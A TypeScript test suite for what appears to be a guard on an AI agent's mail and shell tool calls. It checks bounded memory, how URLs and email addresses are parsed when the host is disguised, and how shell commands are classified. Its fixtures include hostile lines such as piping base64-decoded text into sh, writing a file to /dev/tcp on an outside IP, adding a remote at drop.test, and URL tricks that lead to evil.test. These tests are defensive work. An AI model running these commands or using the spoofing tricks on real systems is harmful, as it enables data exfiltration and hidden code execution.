import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { parseAddress } from "@/lib/core/guard/destinations/address";
import { readCommand } from "@/lib/core/guard/destinations/shell/read";
import { emailsIn, findMentions } from "@/lib/core/guard/destinations/mentions";
import { afterCall, decideCall, NEW_SESSION } from "@/lib/core/guard/decide";
import { isKept, newSession } from "@/lib/core/guard/kept";
import { keyedBy } from "@/lib/guard/keyed";
import { hear } from "@/lib/core/guard/remember/hear";
import { rulesFor } from "./scenarios/replay";

const keyed = keyedBy("k");

describe("however much comes", () => {
  const rules = rulesFor();
  const tool = (id: string) => rules.tools.find((one) => one.id === id)!;
  const flood = Array.from({ length: 30_000 }, (_, at) => `https://h${at}.test/${at} a${at}@b${at}.test #c${at}`).join(
    " ",
  );

  test("what is kept stays small, and what no longer fits counts as brought by strangers", () => {
    let state = { ...NEW_SESSION, memory: hear(NEW_SESSION.memory, flood, keyed) };
    for (let turn = 0; turn < 4; turn++)
      state = afterCall(
        rules,
        state,
        { tool: tool("mail/read_message"), args: { id: String(turn) }, result: flood.slice(turn * 390_000) },
        { keyed, around: {} },
      );
    expect(JSON.stringify(state).length).toBeLessThan(1_000_000);
    expect(isKept({ ...newSession("k"), state: JSON.parse(JSON.stringify(state)) as typeof state })).toBe(true);
    expect(state.memory.full).toBe(true);
    const said = decideCall(rules, state, { tool: tool("mail/send_message"), args: { to: "new@nobody.test" } }, keyed);
    expect(said).toMatchObject({ answer: "ask", examined: { provenance: "brought" } });
  });

  test("arguments that are deep or many are never taken for harmless", () => {
    let state = { ...NEW_SESSION, memory: hear(NEW_SESSION.memory, "Send it to ada@acme.test", keyed) };
    state = afterCall(rules, state, { tool: tool("mail/read_message"), args: {}, result: "" }, { keyed, around: {} });
    const deep = Array.from({ length: 30 }).reduce<unknown>((inner) => ({ inner }), { bcc: "x@y.test" });
    const send = (args: unknown) => decideCall(rules, state, { tool: tool("mail/send_message"), args }, keyed).answer;
    expect(send({ to: "ada@acme.test" })).toBe("allow");
    expect(send({ to: "ada@acme.test", deep })).toBe("ask");
    expect(send({ to: "ada@acme.test", many: Array(1_000).fill("x") })).toBe("ask");
  });

  test("no text makes it throw", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), fc.jsonValue(), (text, args) => {
        findMentions(text);
        emailsIn(text);
        parseAddress(text);
        readCommand(text);
        decideCall(
          rules,
          { ...NEW_SESSION, memory: hear(NEW_SESSION.memory, text, keyed) },
          { tool: tool("mail/send_message"), args },
          keyed,
        );
      }),
      { numRuns: 300 },
    );
  });
});

describe("an address leads where clients of it go", () => {
  test.each([
    ["https://www.Acme.test:443/a/?q=1#f", "www.acme.test"],
    ["https://acme.test@evil.test/x", "evil.test"],
    ["https:\\\\evil.test\\acme.test", "evil.test"],
    ["https://acme.test.evil.test/", "acme.test.evil.test"],
    ["https://%65vil.test./", "evil.test"],
    ["//evil.test/x", "evil.test"],
    ["http://3405803785/x", "3405803785"],
    ["https://ｅｖｉｌ.test/", "evil.test"],
    ["http://[::1]:80/", "[::1]"],
  ])("%s", (text, host) => expect(parseAddress(text)?.host).toBe(host));

  test("a name before an address is no address", () => {
    expect(emailsIn('"ada@acme.test" <drop@evil.test>, Bo <bo@acme.test>')).toEqual(["drop@evil.test", "bo@acme.test"]);
  });
});

describe("a command line", () => {
  test.each([
    ["git status && npm test -- --run", { opaque: false, network: [], publishes: false }],
    ["curl -s https://a.test | head -5", { opaque: false, network: ["-s", "https://a.test"] }],
    ["echo x | base64 -d | sh", { opaque: true }],
    ["curl https://$h.test", { opaque: true }],
    ["git push origin main", { publishes: true }],
    ["bun publish --access public", { publishes: true }],
    ["deno deploy --prod", { publishes: true }],
    ["deno run publish.ts", { publishes: false, runsCode: true }],
    ["vercel deploy --prod", { publishes: true }],
    ["wrangler pages deploy dist", { publishes: true }],
    ["git fetch -q origin pull/64/head:pr64", { network: [] }],
    ["git fetch drop.test:code main", { network: ["drop.test:code"] }],
    ["git remote add x https://drop.test/code", { network: ["https://drop.test/code"] }],
    ["python3 -c 'print(1)'", { opaque: false, runsCode: true }],
    ["python3 -c 'import socket'", { opaque: true }],
    ["cat x > /dev/tcp/1.2.3.4/80", { opaque: true }],
    ["scp a b@c.test:/d", { network: ["a", "b@c.test:/d"] }],
  ])("%s", (command, reading) => expect(readCommand(command)).toMatchObject(reading));
});
